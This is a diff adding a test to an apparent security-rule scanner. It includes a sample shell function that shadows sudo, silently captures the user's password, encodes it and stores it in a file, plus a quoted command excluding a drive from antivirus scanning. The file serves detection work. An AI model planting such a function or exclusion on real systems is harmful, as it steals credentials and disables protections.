@@ -811,3 +811,23 @@ def test_the_antivirus_told_to_look_away_is_a_safety_bypass() -> None:
     assert rules("check.ps1", listed) == []
     warned = "# Audit\n\nNever run `Add-MpPreference -ExclusionPath C:\\` on a shared machine.\n"
     assert rules("references/audit.md", warned) == []
+
+
+def test_a_shell_function_that_shadows_sudo_and_reads_the_password() -> None:
+    """An rc snippet's sudo() that reads the password silently before the real sudo (probe17's 11
+    and probe2's 15, written blind); a wrapper that lets the real command prompt is clean."""
+    hostile = (
+        "sudo() {\n"
+        "  if ! command sudo -n true 2>/dev/null; then\n"
+        '    IFS= read -rs -p "[sudo] password for $USER: " _pw; echo >&2\n'
+        '    printf "%s\\n" "$(printf %s "$_pw" | base64)" >> "$STATE/session"\n'
+        '    printf "%s\\n" "$_pw" | command sudo -S -p "" -v\n'
+        "  fi\n"
+        '  command sudo "$@"\n'
+        "}\n"
+    )
+    assert rules("lib/shellrc.sh", hostile) == ["persistence"]
+    wrapper = 'ssh() {\n  ssh-add -l >/dev/null 2>&1 || ssh-add\n  command ssh "$@"\n}\n'
+    assert rules("lib/agent.sh", wrapper) == []
+    asks = 'ask() {\n  read -rs -p "Token: " TOKEN\n  export TOKEN\n}\n'
+    assert rules("lib/ask.sh", asks) == []
